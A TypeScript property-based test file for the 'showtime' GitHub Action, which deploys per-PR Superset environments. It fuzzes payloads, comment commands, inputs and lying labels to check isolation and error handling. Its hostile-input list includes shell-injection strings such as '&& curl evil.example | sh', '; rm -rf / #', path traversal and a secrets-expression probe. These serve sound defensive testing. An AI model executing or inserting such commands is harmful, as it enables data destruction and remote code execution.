// Hostile input, in-process: mutated real event payloads, comment bodies, action inputs, and PR labels set by hand to
// lie. Properties: nothing crashes (errors are the documented, clearly-worded kinds), nothing is written outside the
// target PR, nothing reaches ECS or docker for another PR, and the URL a run reports is the one ECS gave it.
import fc from 'fast-check';
import { parseCommands } from '../../src/core/commands.js';
import {
  activeLabel,
  addressLabel,
  BLOCKED,
  buildingLabel,
  configCommandLabel,
  createdLabel,
  FREEZE,
  LEGACY_TRIGGER,
  lockLabel,
  parseLabel,
  requesterLabel,
  statusLabel,
  TRACKED,
  TRIGGER_START,
  TRIGGER_STOP,
  ttlLabel,
} from '../../src/core/labels.js';
import { PayloadError, parsePayload } from '../../src/core/payload.js';
import { STATUSES } from '../../src/core/types.js';
import { MAX_TTL_HOURS, MIN_TTL_HOURS, parseFlag, parseLogin, parseSha } from '../../src/core/values.js';
import { OctokitGitHub } from '../../src/github/adapter.js';
import { LOCK_CODEC } from '../../src/core/locks.js';
import { INPUTS } from '../../src/inputs.js';
import type { InputName } from '../../src/inputs.js';
import type { Deps } from '../../src/orchestrator/context.js';
import { planStep } from '../../src/orchestrator/plan-step.js';
import { runStep } from '../../src/orchestrator/run-step.js';
import type { Builder, Ecs, GitHub } from '../../src/ports.js';
import { readSettings, SettingsError } from '../../src/settings.js';
import type { Emulator } from '../../test-support/github-emulator/index.js';
import { startEmulator } from '../../test-support/github-emulator/index.js';
import { commentEvent, dispatchEvent, pullRequestEvent } from '../../test-support/payloads.js';

const OWNER = 'apache';
const NAME = 'superset';
const FULL = `${OWNER}/${NAME}`;
const REPO = { owner: OWNER, repo: NAME };
const RUNS = Number(process.env.RELIABILITY_PROPERTY_RUNS ?? 60);

/** Text a hostile person would try: shell metacharacters, markdown, control and invisible characters, emoji. */
const hostileText = fc.oneof(
  fc.string({ maxLength: 60 }),
  fc.constantFrom(
    '$(touch /tmp/pwned)',
    '`id`',
    '; rm -rf / #',
    '&& curl evil.example | sh',
    "'; DROP TABLE labels; --",
    '../../../etc/passwd',
    '\u202e\u0000\u0007',
    '🎪 🎯 deadbee',
    '${{ secrets.GITHUB_TOKEN }}',
    'a'.repeat(300),
    '\n/showtime start\n',
  ),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
);

// ---------------------------------------------------------------------------------------------------------------
// Payloads

type Json = Record<string, unknown>;

/** Real payload shapes for every event the action reads. */
function realPayloads(): { name: string; payload: Json }[] {
  const base = { repo: REPO, pr: 7, headSha: 'a'.repeat(40), sender: 'maintainer' };
  return [
    {
      name: 'pull_request_target',
      payload: pullRequestEvent({ ...base, action: 'labeled', label: TRIGGER_START }),
    },
    {
      name: 'pull_request_target',
      payload: pullRequestEvent({ ...base, action: 'synchronize', fork: true }),
    },
    { name: 'pull_request_target', payload: pullRequestEvent({ ...base, action: 'closed' }) },
    {
      name: 'issue_comment',
      payload: commentEvent({ repo: REPO, pr: 7, body: '/showtime start', sender: 'maintainer' }),
    },
    {
      name: 'workflow_dispatch',
      payload: dispatchEvent({ repo: REPO, sender: 'maintainer', inputs: { 'pr-number': '7' } }),
    },
    { name: 'schedule', payload: { schedule: '*/30 * * * *' } },
  ];
}

/** Replaces (or deletes) the value at a path chosen by `steps` (each step picks a key by index modulo the keys). */
function mutate(payload: Json, steps: number[], value: unknown, remove: boolean): void {
  let node: Json = payload;
  for (let i = 0; i < steps.length; i += 1) {
    const keys = Object.keys(node);
    if (keys.length === 0) return;
    const key = keys[(steps[i] ?? 0) % keys.length] as string;
    const child = node[key];
    const last = i === steps.length - 1 || typeof child !== 'object' || child === null;
    if (last) {
      if (remove) delete node[key];
      else node[key] = value;
      return;
    }
    node = child as Json;
  }
}

const mutation = fc.record({
  steps: fc.array(fc.nat(), { minLength: 1, maxLength: 4 }),
  value: fc.oneof(fc.anything(), hostileText),
  remove: fc.boolean(),
});

describe('hostile event payloads through parsePayload', () => {
  test('mutated real payloads: facts that are all valid, or a PayloadError naming the field', () => {
    const payloads = realPayloads();
    fc.assert(
      fc.property(
        fc.nat(payloads.length - 1),
        fc.array(mutation, { minLength: 1, maxLength: 3 }),
        (which, changes) => {
          const { name, payload } = structuredClone(payloads[which]!);
          for (const change of changes) mutate(payload, change.steps, change.value, change.remove);
          let facts;
          try {
            facts = parsePayload(name, payload);
          } catch (error) {
            expect(error).toBeInstanceOf(PayloadError);
            expect((error as Error).message).toMatch(/^(event payload|workflow_dispatch input) /);
            return;
          }
          if (facts.kind === 'ignored' || facts.kind === 'schedule') return;
          // A positive integer; parsePayload lets a JSON number past 2^53 through (the GitHub adapter then refuses it
          // with a clear message: see hostile.long.ts), so "safe" is not asserted here.
          expect(Number.isInteger(facts.pr) && facts.pr > 0).toBe(true);
          expect(parseLogin(facts.sender)).toBe(facts.sender);
          if ('headSha' in facts) expect(facts.headSha).toMatch(/^[0-9a-f]{40}$/);
          if (facts.kind === 'dispatch' && facts.sha !== undefined)
            expect(parseSha(facts.sha)).toBe(facts.sha);
          if (facts.kind === 'labeled' || facts.kind === 'unlabeled')
            expect(typeof facts.label).toBe('string');
          if (facts.kind === 'comment') expect(Number.isInteger(facts.commentId)).toBe(true);
        },
      ),
      { numRuns: RUNS * 10 },
    );
  });

  test('anything at all as a payload: never a crash other than a PayloadError', () => {
    fc.assert(
      fc.property(
        fc.constantFrom('pull_request_target', 'issue_comment', 'workflow_dispatch', 'push'),
        fc.anything(),
        (name, payload) => {
          try {
            parsePayload(name, payload);
          } catch (error) {
            expect(error).toBeInstanceOf(PayloadError);
          }
        },
      ),
      { numRuns: RUNS * 10 },
    );
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Comment bodies

describe('hostile comment bodies through parseCommands', () => {
  const lines = fc.array(
    fc.oneof(
      hostileText,
      hostileText.map((text) => `/showtime ${text}`),
      hostileText.map((text) => `/showtime enable ${text}`),
      hostileText.map((text) => `/showtime extend ${text}`),
      hostileText.map((text) => `/showtime start ${text}`),
      fc.constantFrom('/showtime start', '/showtime stop', '/showtime enable ALERTS', '/showtime extend 1w'),
    ),
    { maxLength: 8 },
  );

  test('commands carry only validated values; errors quote a bounded line', () => {
    fc.assert(
      fc.property(lines, (parts) => {
        const { commands, errors } = parseCommands(parts.join('\n'));
        for (const command of commands) {
          if (command.kind === 'start' && command.sha !== undefined)
            expect(parseSha(command.sha)).toBe(command.sha);
          if (command.kind === 'configure' && command.change.kind === 'flag') {
            expect(parseFlag(command.change.flag)).toBe(command.change.flag);
          }
          if (command.kind === 'extend' && command.ttl.kind === 'duration') {
            expect(command.ttl.hours).toBeGreaterThanOrEqual(MIN_TTL_HOURS);
            expect(command.ttl.hours).toBeLessThanOrEqual(MAX_TTL_HOURS);
          }
        }
        for (const error of errors) {
          expect(error.line.length).toBeLessThanOrEqual(120);
          expect(error.usage).toMatch(/^\/showtime /);
        }
      }),
      { numRuns: RUNS * 10 },
    );
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Action inputs

describe('hostile action inputs through readSettings', () => {
  const names = INPUTS.map((input) => input.name) as InputName[];
  const inputs = fc.dictionary(fc.constantFrom(...names), hostileText, { maxKeys: 8 });

  test('settings whose every value is validated, or a SettingsError naming each bad input', () => {
    fc.assert(
      fc.property(inputs, (given) => {
        const read = (name: InputName): string => (name === 'github-token' ? 'token' : (given[name] ?? ''));
        let settings;
        try {
          settings = readSettings('main', read);
        } catch (error) {
          expect(error).toBeInstanceOf(SettingsError);
          for (const problem of (error as SettingsError).problems) {
            const named = /^input '([a-z-]+)' /.exec(problem)?.[1];
            expect(named).toBeDefined();
            expect(Object.keys(given)).toContain(named);
          }
          return;
        }
        for (const flag of settings.defaultFlags) expect(parseFlag(flag)).toBe(flag);
        const ttl = settings.policy.defaultTtl;
        if (ttl.kind === 'duration') {
          expect(ttl.hours).toBeGreaterThanOrEqual(MIN_TTL_HOURS);
          expect(ttl.hours).toBeLessThanOrEqual(MAX_TTL_HOURS);
        }
        expect(Number.isInteger(settings.policy.leaseMinutes)).toBe(true);
        expect(settings.policy.leaseMinutes).toBeGreaterThanOrEqual(5);
        for (const key of Object.keys(settings.aws.extraEnv)) expect(key).toMatch(/^[A-Za-z_][A-Za-z0-9_]*$/);
        expect(settings.aws.containerPort).toBeGreaterThanOrEqual(1);
        expect(settings.aws.containerPort).toBeLessThanOrEqual(65535);
      }),
      { numRuns: RUNS * 10 },
    );
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Lying labels, through the real plan and run steps in-process (real GitHub adapter on the emulator, recording ECS
// and builder): calls only ever concern the target PR, and the reported URL is the one ECS returned.

interface Call {
  port: 'github' | 'ecs' | 'builder';
  method: string;
  args: unknown[];
}

const ECS_URL = 'http://10.20.30.40:8088';

function recordingEcs(calls: Call[]): Ecs {
  const address = { host: '10.20.30.40', port: 8088 };
  return {
    async createEnvironment(spec) {
      calls.push({ port: 'ecs', method: 'createEnvironment', args: [spec.pr, spec.sha] });
      return { serviceName: `pr-${spec.pr}-x-service`, taskDefinitionArn: 'arn:td', address, url: ECS_URL };
    },
    async updateConfiguration(spec) {
      calls.push({ port: 'ecs', method: 'updateConfiguration', args: [spec.pr, spec.sha] });
      return { serviceName: `pr-${spec.pr}-x-service`, taskDefinitionArn: 'arn:td', address, url: ECS_URL };
    },
    async deleteEnvironment(pr, sha) {
      calls.push({ port: 'ecs', method: 'deleteEnvironment', args: [pr, sha] });
      return { deleted: [`service/pr-${pr}-${sha}-service`], alreadyGone: [], failed: [] };
    },
    async listManagedServices() {
      calls.push({ port: 'ecs', method: 'listManagedServices', args: [] });
      return [];
    },
    async currentAddresses() {
      calls.push({ port: 'ecs', method: 'currentAddresses', args: [] });
      return new Map();
    },
    async sleepEnvironment(pr, sha) {
      calls.push({ port: 'ecs', method: 'sleepEnvironment', args: [pr, sha] });
    },
    async wakeEnvironment(pr, sha) {
      calls.push({ port: 'ecs', method: 'wakeEnvironment', args: [pr, sha] });
      return { serviceName: `pr-${pr}-x-service`, taskDefinitionArn: 'arn:td', address, url: ECS_URL };
    },
  };
}

function recordingBuilder(calls: Call[]): Builder {
  return {
    async ensureImage(request) {
      calls.push({ port: 'builder', method: 'ensureImage', args: [request.pr, request.sha] });
      return { image: `apache/superset:pr-${request.pr}-${request.sha.slice(0, 7)}-ci`, built: true };
    },
  };
}

/** Records every GitHub port call (method and arguments) on its way to the real adapter. */
function recordingGitHub(real: GitHub, calls: Call[]): GitHub {
  return new Proxy(real, {
    get(target, property, receiver) {
      const value = Reflect.get(target, property, receiver) as unknown;
      if (typeof value !== 'function') return value;
      return (...args: unknown[]) => {
        calls.push({ port: 'github', method: String(property), args });
        return (value as (...a: unknown[]) => unknown).apply(target, args);
      };
    },
  });
}

// GitHub stores label names as UTF-8: a half of a surrogate pair cannot be a label, so none is generated.
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;
const sha7 = fc.stringMatching(/^[0-9a-f]{7}$/);
const ipv4 = fc.tuple(fc.nat(255), fc.nat(255), fc.nat(255), fc.nat(255)).map((parts) => parts.join('.'));

/** Labels someone might set by hand on the target PR, about its SHAs, another PR's SHA, or nothing at all. */
function lyingLabels(own: string, other: string) {
  const sha = fc.oneof(fc.constant(own.slice(0, 7)), fc.constant(other), sha7);
  const one = fc.oneof(
    fc.tuple(sha, fc.constantFrom(...STATUSES)).map(([s, status]) => statusLabel(s, status)),
    sha.map((s) => activeLabel(s)),
    sha.map((s) => buildingLabel(s)),
    fc
      .tuple(sha, ipv4, fc.integer({ min: 1, max: 65535 }))
      .map(([s, host, port]) => addressLabel(s, { host, port })),
    fc
      .tuple(sha, fc.date({ min: new Date(0), max: new Date('2099-01-01'), noInvalidDate: true }))
      .map(([s, d]) => createdLabel(s, d)),
    sha.map((s) => ttlLabel(s, { kind: 'duration', hours: 1 })),
    sha.map((s) => requesterLabel(s, 'mallory')),
    fc.constantFrom(TRACKED, TRIGGER_START, TRIGGER_STOP, FREEZE, BLOCKED, LEGACY_TRIGGER),
    fc.constantFrom(
      configCommandLabel({ kind: 'flag', flag: 'ALERTS', enabled: true }),
      '🎪 conf-enable-$(id)',
    ),
    fc.constant(lockLabel(5, other)),
    hostileText.map((text) => `🎪 ${text}`.trim().slice(0, 50)),
  );
  return fc
    .uniqueArray(one, { maxLength: 10, selector: (label) => label.toLowerCase() })
    .map((labels) =>
      labels.filter(
        (label) =>
          label.length > 0 &&
          !/^\s|\s$/.test(label) &&
          [...label].length <= 50 &&
          !LONE_SURROGATE.test(label),
      ),
    );
}

let emulator: Emulator;
let prNumber = 100;

beforeAll(async () => {
  emulator = await startEmulator({
    seed: {
      repositories: [
        {
          owner: OWNER,
          name: NAME,
          collaborators: { maintainer: 'admin', writer: 'write', triager: 'triage' },
          // PR 5 is the bystander: a running environment of its own that nothing on another PR may touch.
          pulls: [
            { number: 5, headSha: 'b'.repeat(40), labels: [TRACKED, statusLabel('bbbbbbb', 'running')] },
          ],
        },
      ],
      rateLimits: { core: 1_000_000, search: 1_000_000 },
    },
  });
});

afterAll(async () => {
  await emulator?.stop();
});

function depsFor(calls: Call[], holder: string): Deps {
  const settings = readSettings('main', (name) =>
    name === 'github-token'
      ? emulator.token
      : name === 'subnets'
        ? 'subnet-1'
        : name === 'security-groups'
          ? 'sg-1'
          : '',
  );
  const github = new OctokitGitHub({
    token: emulator.token,
    baseUrl: emulator.url,
    repo: REPO,
    lockCodec: LOCK_CODEC,
    pacing: false,
    delayUnitMs: 1,
  });
  const quiet = { info: () => undefined, warning: () => undefined, error: () => undefined };
  return {
    settings,
    github: recordingGitHub(github, calls),
    ecs: recordingEcs(calls),
    builder: recordingBuilder(calls),
    clock: () => new Date(),
    log: quiet,
    run: { holder },
  };
}

type EventChoice = 'start-label' | 'stop-label' | 'push' | 'close' | 'comment' | 'dispatch';

describe('labels set by hand to lie, through the plan and run steps', () => {
  test('no call concerns another PR, no URL comes from a label, no error escapes', async () => {
    const head = 'c'.repeat(40);
    const other = 'bbbbbbb';
    await fc.assert(
      fc.asyncProperty(
        lyingLabels(head, other),
        fc.constantFrom<EventChoice>('start-label', 'stop-label', 'push', 'close', 'comment', 'dispatch'),
        hostileText,
        async (labels, choice, text) => {
          prNumber += 1;
          const pr = prNumber;
          emulator.store.addPull(FULL, { number: pr, headSha: head, author: 'writer', labels });
          const bystander = emulator.store.labelNames(FULL, 5);
          const calls: Call[] = [];
          const deps = depsFor(calls, `run ${pr}/1`);
          const sender = 'maintainer';
          let event: { name: string; payload: unknown };
          switch (choice) {
            case 'start-label':
            case 'stop-label': {
              const label = choice === 'start-label' ? TRIGGER_START : TRIGGER_STOP;
              emulator.store.addLabels(FULL, pr, [label]);
              event = {
                name: 'pull_request_target',
                payload: pullRequestEvent({
                  action: 'labeled',
                  repo: REPO,
                  pr,
                  headSha: head,
                  sender,
                  label,
                }),
              };
              break;
            }
            case 'push': {
              const next = 'd'.repeat(40);
              emulator.store.setHeadSha(FULL, pr, next);
              event = {
                name: 'pull_request_target',
                payload: pullRequestEvent({ action: 'synchronize', repo: REPO, pr, headSha: next, sender }),
              };
              break;
            }
            case 'close':
              emulator.store.setState(FULL, pr, 'closed');
              event = {
                name: 'pull_request_target',
                payload: pullRequestEvent({
                  action: 'closed',
                  repo: REPO,
                  pr,
                  headSha: head,
                  sender: 'outsider',
                }),
              };
              break;
            case 'comment': {
              const comment = emulator.store.addComment(FULL, pr, {
                body: `/showtime start\n/showtime ${text}`,
                author: sender,
              });
              event = {
                name: 'issue_comment',
                payload: commentEvent({ repo: REPO, pr, body: comment.body, sender, commentId: comment.id }),
              };
              break;
            }
            case 'dispatch':
              event = {
                name: 'workflow_dispatch',
                payload: dispatchEvent({
                  repo: REPO,
                  sender,
                  inputs: { 'pr-number': String(pr), sha: text },
                }),
              };
              break;
          }
          let outcome;
          try {
            outcome = await runStep(deps, await planStep(deps, event.name, event.payload));
          } catch (error) {
            // Only a hostile dispatch input may stop a run, and then with a message naming the input.
            expect(error).toBeInstanceOf(PayloadError);
            expect((error as Error).message).toMatch(/^workflow_dispatch input 'sha' /);
          }
          for (const call of calls) {
            const [first] = call.args;
            switch (call.method) {
              case 'getPullRequest':
              case 'addLabels':
              case 'removeLabel':
              case 'upsertComment':
              case 'createComment':
              case 'findComment':
              case 'createEnvironment':
              case 'updateConfiguration':
              case 'deleteEnvironment':
              case 'ensureImage':
                expect([call.method, first]).toEqual([call.method, pr]);
                break;
              case 'acquireLock':
              case 'releaseLock':
              case 'renewLock': {
                const lock = parseLabel(String(first));
                expect(lock.kind === 'lock' && lock.pr).toBe(pr);
                break;
              }
              case 'createDeployment':
                expect((first as { environment: string }).environment).toBe(`showtime-pr-${pr}`);
                break;
              case 'listDeployments':
                expect((first as { environment: string }).environment).toBe(`showtime-pr-${pr}`);
                break;
              case 'getPermission':
                expect(first).toBe(sender);
                break;
              case 'reactToComment':
              case 'createDeploymentStatus':
              case 'searchPullRequests':
              case 'listLabelCarriers':
              case 'getLabelDefinition':
              case 'deleteRepoLabel':
                break;
              default:
                throw new Error(`unexpected GitHub call ${call.method}: add it to this table`);
            }
          }
          // Deletes only for SHAs this PR's own labels name; builds only of the commits the event pinned.
          const named = new Set([
            ...labels.flatMap((label) => {
              const parsed = parseLabel(label);
              return 'sha' in parsed && parsed.sha !== undefined && parsed.kind !== 'lock'
                ? [parsed.sha]
                : [];
            }),
          ]);
          for (const call of calls.filter((c) => c.method === 'deleteEnvironment')) {
            expect(named).toContain(String(call.args[1]).slice(0, 7));
          }
          // Label definitions deleted only for environments of this PR (the bystander's labels are checked below).
          for (const call of calls.filter((c) => c.method === 'deleteRepoLabel')) {
            const parsed = parseLabel(String(call.args[0]));
            expect(named).toContain('sha' in parsed ? parsed.sha : undefined);
          }
          for (const call of calls.filter((c) => c.method === 'ensureImage')) {
            expect([head, 'd'.repeat(40), text]).toContain(call.args[1]);
          }
          if (outcome?.url !== undefined) expect(outcome.url).toBe(ECS_URL);
          expect(emulator.store.labelNames(FULL, 5)).toEqual(bystander);
        },
      ),
      // Each run is a whole plan and run against the emulator (about 0.2 s): fewer runs than the pure properties.
      { numRuns: Math.ceil(RUNS / 2) },
    );
  }, 60_000);
});
